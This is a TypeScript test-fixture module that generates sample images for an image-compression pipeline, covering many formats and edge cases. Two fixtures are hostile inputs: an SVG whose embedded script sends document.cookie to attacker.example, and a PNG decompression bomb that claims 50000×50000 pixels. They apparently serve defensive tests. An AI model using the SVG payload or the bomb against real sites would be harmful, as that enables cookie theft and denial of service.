import zlib from "node:zlib";
import sharp from "sharp";

/**
 * Test images, generated with sharp so no binary files live in the repository. Every function is
 * deterministic and returns a fresh Buffer. Photos are 400×300 with gradients, shapes and mild noise so
 * that compression behaves as it does on real product photos (a flat colour compresses to nothing).
 */

export const FIXTURE_WIDTH = 400;
export const FIXTURE_HEIGHT = 300;

type Rgb = [number, number, number];

/** Small seeded generator (mulberry32): the same noise on every run. */
export function seededRandom(seed: number) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export const clampByte = (value: number) => Math.max(0, Math.min(255, Math.round(value)));

/** A product-photo-like scene as raw RGB: a lit backdrop, a few shaded objects, sensor noise. */
export function photoPixels(width = FIXTURE_WIDTH, height = FIXTURE_HEIGHT, seed = 1): Buffer {
  const next = seededRandom(seed);
  const pixels = Buffer.alloc(width * height * 3);
  const objects = [
    { cx: 0.3, cy: 0.55, r: 0.22, colour: [200, 70, 50] },
    { cx: 0.68, cy: 0.45, r: 0.18, colour: [60, 120, 190] },
    { cx: 0.52, cy: 0.8, r: 0.12, colour: [230, 190, 60] },
  ].map((o) => ({ ...o, cx: o.cx * width, cy: o.cy * height, r: o.r * Math.min(width, height) * 1.4 }));
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const light = 1 - 0.35 * Math.hypot(x / width - 0.4, y / height - 0.3);
      let rgb = [225 * light, 215 * light + 10 * (y / height), 200 * light + 30 * (x / width)];
      for (const o of objects) {
        const d = Math.hypot(x - o.cx, y - o.cy) / o.r;
        if (d < 1) {
          const shade = 0.55 + 0.45 * Math.sqrt(1 - d * d) - 0.15 * ((x - o.cx) / o.r);
          rgb = o.colour.map((c) => c * shade);
        }
      }
      const i = (y * width + x) * 3;
      const grain = (next() - 0.5) * 10;
      pixels[i] = clampByte(rgb[0] + grain + (next() - 0.5) * 6);
      pixels[i + 1] = clampByte(rgb[1] + grain + (next() - 0.5) * 6);
      pixels[i + 2] = clampByte(rgb[2] + grain + (next() - 0.5) * 6);
    }
  }
  return pixels;
}

const photo = (width = FIXTURE_WIDTH, height = FIXTURE_HEIGHT, seed = 1) =>
  sharp(photoPixels(width, height, seed), { raw: { width, height, channels: 3 } });

// --- JPEG -------------------------------------------------------------------------------------------

export function baselineJpeg(): Promise<Buffer> {
  return photo().jpeg({ quality: 95, mozjpeg: false }).toBuffer();
}

export function progressiveJpeg(): Promise<Buffer> {
  return photo().jpeg({ quality: 95, progressive: true, mozjpeg: false }).toBuffer();
}

export function grayscaleJpeg(): Promise<Buffer> {
  return photo().toColourspace("b-w").jpeg({ quality: 95 }).toBuffer();
}

/** A weak-quality JPEG: re-encoding it at quality 50 cannot make it much smaller. */
export function lowQualityJpeg(): Promise<Buffer> {
  return photo(120, 90).jpeg({ quality: 10, mozjpeg: true }).toBuffer();
}

/**
 * Process-ink patches of the CMYK JPEG, each a vertical band of `CMYK_PATCH_WIDTH` pixels, with the
 * sRGB colour a colour-managed viewer shows for it (approximate: CMYK profiles differ by ~10–25 levels;
 * a file read without conversion or with inverted inks is off by 100 or more).
 */
export const CMYK_PATCH_WIDTH = 40;
export const cmykPatches: { name: string; cmyk: [number, number, number, number]; srgb: Rgb }[] = [
  { name: "paper white", cmyk: [0, 0, 0, 0], srgb: [255, 255, 255] },
  { name: "cyan", cmyk: [100, 0, 0, 0], srgb: [0, 160, 228] },
  { name: "magenta", cmyk: [0, 100, 0, 0], srgb: [230, 0, 130] },
  { name: "yellow", cmyk: [0, 0, 100, 0], srgb: [255, 240, 0] },
  { name: "red", cmyk: [0, 100, 100, 0], srgb: [232, 10, 20] },
  { name: "green", cmyk: [100, 0, 100, 0], srgb: [0, 145, 60] },
  { name: "black", cmyk: [0, 0, 0, 100], srgb: [25, 15, 15] },
];

/** An uncompressed, single-strip TIFF of raw CMYK samples, written by hand so the inks are exact. */
function cmykTiff(width: number, height: number, samples: Buffer): Buffer {
  const SHORT = 3;
  const LONG = 4;
  const entries: [tag: number, type: number, count: number, value: number][] = [
    [256, SHORT, 1, width],
    [257, SHORT, 1, height],
    [258, SHORT, 4, 0], // BitsPerSample: offset filled in below
    [259, SHORT, 1, 1], // no compression
    [262, SHORT, 1, 5], // photometric: separated (CMYK)
    [273, LONG, 1, 0], // strip offset: filled in below
    [277, SHORT, 1, 4],
    [278, SHORT, 1, height],
    [279, LONG, 1, samples.length],
    [284, SHORT, 1, 1],
  ];
  const ifdOffset = 8;
  const bitsOffset = ifdOffset + 2 + entries.length * 12 + 4;
  const dataOffset = bitsOffset + 8;
  const tiff = Buffer.alloc(dataOffset + samples.length);
  tiff.write("II", 0, "latin1");
  tiff.writeUInt16LE(42, 2);
  tiff.writeUInt32LE(ifdOffset, 4);
  tiff.writeUInt16LE(entries.length, ifdOffset);
  entries.forEach(([tag, type, count, value], index) => {
    const at = ifdOffset + 2 + index * 12;
    tiff.writeUInt16LE(tag, at);
    tiff.writeUInt16LE(type, at + 2);
    tiff.writeUInt32LE(count, at + 4);
    if (tag === 258) tiff.writeUInt32LE(bitsOffset, at + 8);
    else if (tag === 273) tiff.writeUInt32LE(dataOffset, at + 8);
    else if (type === SHORT) tiff.writeUInt16LE(value, at + 8);
    else tiff.writeUInt32LE(value, at + 8);
  });
  for (let band = 0; band < 4; band++) tiff.writeUInt16LE(8, bitsOffset + band * 2);
  samples.copy(tiff, dataOffset);
  return tiff;
}

/** A CMYK JPEG (as print workflows export) made of the `cmykPatches` bands, 280×100. */
export function cmykJpeg(): Promise<Buffer> {
  const width = CMYK_PATCH_WIDTH * cmykPatches.length;
  const height = 100;
  const samples = Buffer.alloc(width * height * 4);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const ink = cmykPatches[Math.floor(x / CMYK_PATCH_WIDTH)].cmyk;
      samples.set(
        ink.map((percent) => Math.round(percent * 2.55)),
        (y * width + x) * 4,
      );
    }
  }
  // Keeping the pipeline in CMYK writes the inks as they are, without a round trip through sRGB.
  return sharp(cmykTiff(width, height, samples))
    .pipelineColourspace("cmyk")
    .toColourspace("cmyk")
    .jpeg({ quality: 95 })
    .toBuffer();
}

/** Side of the red marker in the stored top-left corner of `exifRotatedJpeg`. */
export const EXIF_MARKER_SIZE = 60;

/**
 * A camera-style JPEG stored 400×300 with EXIF orientation 6 (rotate 90° clockwise to display), so it
 * displays 300×400. A red square marks the stored top-left corner; displayed, it sits top-right.
 */
export function exifRotatedJpeg(): Promise<Buffer> {
  const marker = Buffer.alloc(EXIF_MARKER_SIZE * EXIF_MARKER_SIZE * 3);
  for (let i = 0; i < marker.length; i += 3) marker.set([220, 20, 20], i);
  return photo()
    .composite([
      { input: marker, raw: { width: EXIF_MARKER_SIZE, height: EXIF_MARKER_SIZE, channels: 3 }, left: 0, top: 0 },
    ])
    .jpeg({ quality: 95 })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

/**
 * A JPEG with four stray bytes between two header markers, as some cameras and editors write: libjpeg
 * warns ("extraneous bytes before marker"), browsers show it normally.
 */
export async function jpegWithStrayBytes(): Promise<Buffer> {
  const jpeg = await baselineJpeg();
  const afterApp0 = 4 + jpeg.readUInt16BE(4); // SOI (2 bytes), APP0 marker (2) and its length
  return Buffer.concat([jpeg.subarray(0, afterApp0), Buffer.from("junk"), jpeg.subarray(afterApp0)]);
}

/** The sRGB colour of the whole `displayP3Jpeg` image. */
export const displayP3Colour: Rgb = [200, 60, 50];

/**
 * A JPEG with an embedded Display P3 profile (as iPhones and Macs save): its stored values are P3, so a
 * reader that ignores the profile shows different colours. Colour-managed, it is `displayP3Colour`.
 */
export function displayP3Jpeg(): Promise<Buffer> {
  const [r, g, b] = displayP3Colour;
  return sharp({ create: { width: 64, height: 48, channels: 3, background: { r, g, b } } })
    .withIccProfile("p3")
    .jpeg({ quality: 95 })
    .toBuffer();
}

/** The first half of a JPEG, as left by an interrupted download. */
export async function truncatedJpeg(): Promise<Buffer> {
  const whole = await baselineJpeg();
  return Buffer.from(whole.subarray(0, Math.floor(whole.length / 2)));
}

// --- PNG --------------------------------------------------------------------------------------------

export function opaquePng(): Promise<Buffer> {
  return photo().png({ compressionLevel: 6 }).toBuffer();
}

/** Where `logoPng`'s left-to-right gradient runs: a band of rows across its rounded rectangle. */
export const logoGradient = { left: 90, right: 470, rows: [120, 200, 300] };

/**
 * A logo as shops upload them: flat shapes on a transparent background and one gradient, drawn as
 * SVG and saved as a truecolour PNG. Small on the wire; what dithering noise does to it shows.
 */
export function logoPng(): Promise<Buffer> {
  const svg =
    `<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600">` +
    `<defs><linearGradient id="g"><stop offset="0" stop-color="#1e8cdc"/><stop offset="1" stop-color="#0b3d6b"/></linearGradient></defs>` +
    `<rect x="40" y="60" width="480" height="300" rx="30" fill="url(#g)"/>` +
    `<circle cx="620" cy="420" r="140" fill="#e8462e"/>` +
    `<polygon points="100,560 300,400 500,560" fill="#f4c430" fill-opacity="0.9"/></svg>`;
  return sharp(Buffer.from(svg)).png().toBuffer();
}

/** Where the opaque square of `transparentPng` is, and its colour; everything else is fully transparent. */
export const transparentSquare = { left: 100, top: 75, size: 200, colour: [30, 140, 220] as Rgb };

/**
 * A cut-out product shot: a transparent background with an opaque square, shaded top to bottom and
 * grainy, whose centre has `transparentSquare.colour`.
 */
export function transparentPng(): Promise<Buffer> {
  const { width, height } = { width: FIXTURE_WIDTH, height: FIXTURE_HEIGHT };
  const { left, top, size, colour } = transparentSquare;
  const next = seededRandom(7);
  const pixels = Buffer.alloc(width * height * 4);
  for (let y = top; y < top + size; y++) {
    for (let x = left; x < left + size; x++) {
      const shade = ((y - top - size / 2) / size) * 40 + (next() - 0.5) * 8;
      pixels.set([...colour.map((c) => clampByte(c + shade)), 255], (y * width + x) * 4);
    }
  }
  return sharp(pixels, { raw: { width, height, channels: 4 } })
    .png()
    .toBuffer();
}

/** An indexed-colour PNG (as graphics tools save logos and illustrations). */
export function palettePng(): Promise<Buffer> {
  return photo().png({ palette: true, colours: 256, dither: 1, effort: 4 }).toBuffer();
}

/** A 48-bit (16 bits per channel) PNG, as exported by photo editors. */
export function sixteenBitPng(): Promise<Buffer> {
  return photo().toColourspace("rgb16").png().toBuffer();
}

/**
 * A 1×1 grey PNG of under 100 bytes: nothing left to remove, so compressing it cannot make it smaller.
 */
export function alreadyOptimalPng(): Promise<Buffer> {
  return sharp({ create: { width: 1, height: 1, channels: 3, background: { r: 128, g: 128, b: 128 } } })
    .toColourspace("b-w")
    .png({ compressionLevel: 9 })
    .toBuffer();
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([length, body, crc]);
}

export const HUGE_PNG_SIDE = 50_000;

/**
 * A decompression bomb: a valid PNG header claiming 50000×50000 pixels (2.5 gigapixels, 7.5 GB decoded)
 * in a file of a few hundred bytes. Its image data holds only the first rows.
 */
export async function hugeDimensionsPng(side = HUGE_PNG_SIDE): Promise<Buffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // truecolour
  const rows = Buffer.alloc(4 * (1 + side * 3)); // four rows: filter byte + black pixels
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", header),
    pngChunk("IDAT", zlib.deflateSync(rows, { level: 9 })),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

// --- WebP, AVIF, GIF, TIFF --------------------------------------------------------------------------

export function lossyWebp(): Promise<Buffer> {
  return photo().webp({ quality: 90 }).toBuffer();
}

export function losslessWebp(): Promise<Buffer> {
  return photo().webp({ lossless: true }).toBuffer();
}

/** `transparentPng` as a lossless WebP, as cut-out product shots are often served. */
export async function transparentWebp(): Promise<Buffer> {
  return sharp(await transparentPng())
    .webp({ lossless: true })
    .toBuffer();
}

export function avifImage(): Promise<Buffer> {
  return photo().avif({ quality: 80, effort: 2 }).toBuffer();
}

export function stillGif(): Promise<Buffer> {
  return photo().gif().toBuffer();
}

export const ANIMATION_FRAMES = 4;
export const ANIMATION_DELAYS = [100, 200, 300, 400];
export const ANIMATION_LOOP = 3;
const ANIMATION_WIDTH = 200;
const ANIMATION_HEIGHT = 150;

/** Frames of a small animation stacked top to bottom, as sharp expects animated raw input. */
function animationFrames() {
  const frames = Array.from({ length: ANIMATION_FRAMES }, (_, index) =>
    photoPixels(ANIMATION_WIDTH, ANIMATION_HEIGHT, index + 1),
  );
  return sharp(Buffer.concat(frames), {
    raw: {
      width: ANIMATION_WIDTH,
      height: ANIMATION_HEIGHT * ANIMATION_FRAMES,
      channels: 3,
      pageHeight: ANIMATION_HEIGHT,
    },
  });
}

/** 200×150, 4 frames, delays 100–400 ms, looping 3 times. */
export function animatedGif(): Promise<Buffer> {
  return animationFrames().gif({ delay: ANIMATION_DELAYS, loop: ANIMATION_LOOP }).toBuffer();
}

/** 200×150, 4 frames, delays 100–400 ms, looping 3 times. */
export function animatedWebp(): Promise<Buffer> {
  return animationFrames().webp({ quality: 90, delay: ANIMATION_DELAYS, loop: ANIMATION_LOOP }).toBuffer();
}

export function tiffImage(): Promise<Buffer> {
  return photo().tiff({ compression: "lzw" }).toBuffer();
}

/** `transparentPng` as a TIFF with an alpha channel. */
export async function tiffWithAlpha(): Promise<Buffer> {
  return sharp(await transparentPng())
    .tiff({ compression: "lzw" })
    .toBuffer();
}

// --- Files that are not images ----------------------------------------------------------------------

/** What a CDN or a login wall sends with status 200 and, often, `Content-Type: image/jpeg`. */
export async function htmlPage(): Promise<Buffer> {
  return Buffer.from(
    "<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body><form>Please sign in</form></body></html>\n",
  );
}

export async function svgWithScript(): Promise<Buffer> {
  return Buffer.from(
    '<?xml version="1.0" encoding="UTF-8"?>\n' +
      '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
      '<script>fetch("https://attacker.example/" + document.cookie)</script>' +
      '<rect width="100" height="100" fill="red"/></svg>\n',
  );
}

export async function emptyFile(): Promise<Buffer> {
  return Buffer.alloc(0);
}

/** Every fixture by name, for tests and the benchmark to loop over. */
export const imageFixtures = {
  baselineJpeg,
  progressiveJpeg,
  grayscaleJpeg,
  lowQualityJpeg,
  cmykJpeg,
  exifRotatedJpeg,
  displayP3Jpeg,
  jpegWithStrayBytes,
  truncatedJpeg,
  opaquePng,
  transparentPng,
  logoPng,
  palettePng,
  sixteenBitPng,
  alreadyOptimalPng,
  hugeDimensionsPng,
  lossyWebp,
  losslessWebp,
  transparentWebp,
  avifImage,
  stillGif,
  animatedGif,
  animatedWebp,
  tiffImage,
  tiffWithAlpha,
  htmlPage,
  svgWithScript,
  emptyFile,
} satisfies Record<string, () => Promise<Buffer>>;

export type ImageFixtureName = keyof typeof imageFixtures;
